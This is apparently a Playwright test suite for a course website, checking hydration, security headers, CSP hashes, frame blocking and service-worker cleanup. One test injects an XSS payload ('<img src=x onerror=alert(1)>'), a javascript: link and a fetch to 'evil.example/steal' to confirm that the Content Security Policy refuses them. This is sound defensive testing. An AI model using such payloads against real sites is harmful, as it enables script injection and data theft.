import { readFile } from 'node:fs/promises';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { inlineHashesIn } from '../config/inlineHashes.ts';
import { cspHash } from '../config/securityHeaders.ts';
import { answerAccounts, storeSession } from './accountService';
import { course, prerenderedAddresses } from './checks/addresses';
import { production, productionFolder, startSite } from './site';
import { expect, expectRunning, test } from './test';

/** Marks the main heading as soon as it exists, to tell it from one that is drawn anew. */
function markHeading(): void {
  new MutationObserver((_changes, observer) => {
    const heading = document.querySelector('h1');
    if (!heading) return;
    Object.assign(heading, { isServed: true });
    observer.disconnect();
  }).observe(document, { childList: true, subtree: true });
}

/** The served markup was kept, not drawn anew. */
const expectHydrated = (page: Page) =>
  expect(page.getByRole('heading', { level: 1 })).toHaveJSProperty('isServed', true);

for (const address of prerenderedAddresses) {
  test(`${address} is shown before its scripts run and is hydrated without being redrawn`, async ({
    page,
  }) => {
    await page.addInitScript(markHeading);
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expectRunning(page);
    await expectHydrated(page);
  });
}

const looks = (['light', 'dark'] as const).flatMap((colorScheme) =>
  (['no-preference', 'reduce'] as const).map((reducedMotion) => ({ colorScheme, reducedMotion })),
);

for (const { address, shown } of [
  { address: '/', shown: /courses/ },
  { address: '/?utm_source=mail', shown: /courses/ },
  { address: '/courses', shown: 'Showing 24 of 24 courses' },
  { address: '/courses?level=advanced&sort=rating', shown: 'Showing 5 of 24 courses' },
  { address: course, shown: '$79.00' },
  { address: `${course}?utm_source=mail`, shown: '$79.00' },
]) {
  for (const who of ['a visitor', 'a member'] as const) {
    test(`${address} is hydrated for ${who}, with any colour scheme and motion preference`, async ({
      page,
      context,
    }) => {
      const isMember = who === 'a member';
      await answerAccounts(context);
      if (isMember) await storeSession(context);
      await page.addInitScript(markHeading);
      for (const look of looks) {
        await page.emulateMedia(look);
        await page.goto(address);
        await expectRunning(page);
        await expectHydrated(page);
        await expect(page.locator('html')).toHaveAttribute('data-mui-color-scheme', look.colorScheme);
        await expect(page.getByRole('main').getByText(shown).first()).toBeVisible();
        const banner = page.getByRole('banner');
        await expect(banner.getByRole('button', { name: 'Account menu' })).toHaveCount(isMember ? 1 : 0);
        await expect(banner.getByRole('link', { name: 'Login' })).toHaveCount(isMember ? 0 : 1);
      }
    });
  }
}

test("a press on a button's icon before hydration is not lost", async ({ page }) => {
  await page.goto('/pricing');
  await page.getByRole('button', { name: 'Cart, 0 items' }).locator('svg').click();
  await expect(page.getByText(/^Your cart is empty\./)).toBeVisible();

  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto('/creators');
  await page.getByRole('button', { name: 'Menu', exact: true }).locator('svg').click();
  await expect(page.getByRole('dialog', { name: 'Menu' })).toBeVisible();
});

test.describe('with Save-Data', () => {
  test('no script loads before the visitor interacts', async ({ page }) => {
    await page.addInitScript(() => {
      Object.defineProperty(navigator, 'connection', { value: { saveData: true } });
    });
    const scripts: string[] = [];
    page.on('request', (request) => {
      if (request.resourceType() === 'script') scripts.push(request.url());
    });
    await page.goto('/courses');
    await page.waitForLoadState('networkidle');
    expect(scripts).toEqual([]);
    await page.mouse.wheel(0, 100);
    await expectRunning(page);
  });
});

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });

  test('the home page, the catalogue and a course can be read and left by their links', async ({ page }) => {
    await page.goto('/');
    await page.getByRole('link', { name: 'Explore Courses' }).click();
    await expect(page).toHaveURL('/courses');
    await page.getByRole('link', { name: /^Prompting That Works/ }).click();
    await expect(page.getByRole('heading', { level: 1 })).toContainText('Prompting That Works');
  });
});

test('the published policy has exactly the hashes of the pages, in lines of less than 1,500 characters', async () => {
  const published = await readFile(path.join(productionFolder, '_headers'), 'utf8');
  const { inlineScripts, inlineStyles } = await inlineHashesIn(productionFolder);
  const named = published.match(/'sha256-[^']*'/g) ?? [];
  const inPages = new Set([cspHash(''), ...inlineScripts, ...inlineStyles]);
  expect(named.toSorted()).toEqual([...inPages].toSorted());
  // Hosts read at most 2,000; a long backend address needs some of the rest.
  expect(Math.max(...published.split('\n').map(({ length }) => length))).toBeLessThan(1500);
});

test('every page has the headers of the production build', async ({ request }) => {
  for (const address of ['/', '/login', '/no-such-page']) {
    const headers = (await request.get(address)).headers();
    expect(headers['content-security-policy']).toMatch(/^default-src 'none'; script-src 'self' 'sha256-/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['x-frame-options']).toBe('DENY');
  }
});

test('a missing file is a 404 and not a page', async ({ request }) => {
  const asset = await request.get('/assets/Gone-12345678.js');
  expect(asset.status()).toBe(404);
  expect(asset.headers()['content-type']).toContain('text/plain');
  expect((await request.get('/no-such-page')).status()).toBe(404);
  expect((await request.get('/courses')).status()).toBe(200);
});

test('another site cannot frame a page', async ({ page, complaints, provoked }) => {
  const refusal = /frame-ancestors 'none'/;
  provoked.push(refusal);
  const site = await startSite(
    new Map([['/frame', `<link rel="icon" href="data:,"><iframe src="${production}/"></iframe>`]]),
  );
  await page.goto(`${site.origin}/frame`);
  await expect.poll(() => complaints.filter((complaint) => refusal.test(complaint))).not.toEqual([]);
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  await site.close();
});

/** Messages about violations by the page and its browser, which arrive at different times. */
const ofViolations = /^Violation of |Content Security Policy|^This document requires 'Trusted/;

test.describe('with a copy for visits without a network', () => {
  test.use({ withOfflineCopy: true });

  test('injected markup, requests to other hosts and script URLs are refused', async ({
    page,
    complaints,
    provoked,
  }) => {
    provoked.push(ofViolations);
    await page.goto('/');
    const outcome = await page.evaluate(async () => {
      const attempt = async (run: () => unknown) => {
        try {
          await run();
          return 'allowed';
        } catch {
          return 'refused';
        }
      };
      const link = document.createElement('a');
      link.href = "javascript:document.title='taken'";
      document.body.append(link);
      link.click();
      const style = document.createElement('style');
      style.textContent = 'h1{display:none}';
      document.head.append(style);
      return {
        innerHTML: await attempt(() => {
          document.body.innerHTML = '<img src=x onerror=alert(1)>';
        }),
        request: await attempt(() => fetch('https://evil.example/steal')),
        worker: await attempt(() => navigator.serviceWorker.register('/assets/other.js')),
      };
    });
    expect(outcome).toEqual({ innerHTML: 'refused', request: 'refused', worker: 'refused' });
    await expect(page).not.toHaveTitle('taken');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const directives = () =>
      complaints.flatMap((complaint) => /^Violation of (\S+):/.exec(complaint)?.[1] ?? []);
    await expect
      .poll(directives)
      .toEqual([
        'script-src-elem',
        'style-src-elem',
        'require-trusted-types-for',
        'connect-src',
        'require-trusted-types-for',
      ]);
  });
});

test('a violation in another tab is recorded as well', async ({ context, complaints, provoked }) => {
  provoked.push(ofViolations);
  const other = await context.newPage();
  await other.goto('/about');
  await other.evaluate(() => {
    document.head.append(Object.assign(document.createElement('style'), { textContent: 'h1{display:none}' }));
  });
  await expect.poll(() => complaints.join()).toContain('Violation of style-src-elem');
});

test("the header's links keep a chosen plan after hydration too", async ({ page }) => {
  await page.goto('/signup?plan=creator-pro');
  await expectRunning(page);
  await page.getByRole('main').getByRole('link', { name: 'Sign in' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
  await page.reload();
  await expectRunning(page);
  await expect(page.getByRole('banner').getByRole('link', { name: 'Sign Up' })).toHaveAttribute(
    'href',
    '/signup?plan=creator-pro',
  );
});

test('a mock worker left by an earlier demo is removed', async ({ page }) => {
  const site = await startSite(
    new Map([
      ['/mockServiceWorker.js', 'self.addEventListener("fetch", () => {});'],
      ['/before', '<title>Before</title><link rel="icon" href="data:,">'],
    ]),
  );
  await page.goto(`${site.origin}/before`);
  await page.evaluate(async () => {
    await navigator.serviceWorker.register('/mockServiceWorker.js');
    await navigator.serviceWorker.ready;
  });
  await page.goto(site.origin);
  const workers = () =>
    page.evaluate(async () => {
      const registrations = await navigator.serviceWorker.getRegistrations();
      return registrations.map(
        ({ active, installing, waiting }) =>
          new URL((active ?? waiting ?? installing)?.scriptURL ?? '', location.href).pathname,
      );
    });
  await expect.poll(workers).toEqual([]);
  await page.reload();
  await expect.poll(workers).toEqual(['/service-worker.js']);
  // Its service worker is still fetching, and the page would report failures.
  await page.close();
  await site.close();
});
